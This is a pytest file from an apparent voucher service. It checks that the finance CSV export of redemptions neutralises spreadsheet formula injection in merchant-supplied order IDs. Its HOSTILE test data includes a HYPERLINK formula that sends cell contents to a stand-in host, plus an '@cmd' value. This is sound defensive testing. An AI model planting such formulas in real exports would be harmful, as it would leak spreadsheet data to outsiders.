"""The redemption export is safe to open in a spreadsheet: order ids come from merchants'
checkout systems, and a cell a spreadsheet would read as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from tests.redemption.conftest import redeem
from voucher_service.spreadsheets import neutralise
from vouchers.finance.selectors import EXPORT_COLUMNS
from vouchers.issuance.chunk import issue_chunk
from vouchers.models import Voucher

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://example.test/?leak="&A1,"Refund")': '\'=HYPERLINK("http://example.test/?leak="&A1,"Refund")',
    "+SUM(1,2)": "'+SUM(1,2)",
    "@cmd": "'@cmd",
    "-2+3": "'-2+3",
    "order-7": "order-7",
    "A=1": "A=1",
}


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_prefix_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [1000, -5, 0, None, "", "plain", "a=b", "'=already"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert neutralise(cell) == cell


def test_hostile_order_ids_come_out_as_text(make_campaign, load_registry, role_client):
    campaign = make_campaign(slug="hostile", components=[{"category": "all",
                                                          "amount_krw": 50_000}])
    load_registry(campaign, {1: "active"})
    issue_chunk(campaign_id=campaign.pk, lo=1, hi=2, run_id=None, chunk_id=None)
    voucher, checkout = Voucher.objects.get(customer_id=1), role_client("checkout")
    for order_id in HOSTILE:
        created = redeem(checkout, voucher, order_id=order_id, amount_krw=1_000,
                         order_total_krw=2_000)
        assert created.status_code == 201, created.content
        voucher.refresh_from_db()

    response = role_client("finance").get("/api/v1/finance/redemptions/export",
                                           {"campaign": "hostile"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    reader = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert tuple(next(reader)) == EXPORT_COLUMNS
    rows = [dict(zip(EXPORT_COLUMNS, row, strict=True)) for row in reader]
    assert {row["order_id"] for row in rows} == set(HOSTILE.values())
    # Money stays a plain number.
    assert {row["amount_krw"] for row in rows} == {"1000"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row.values())
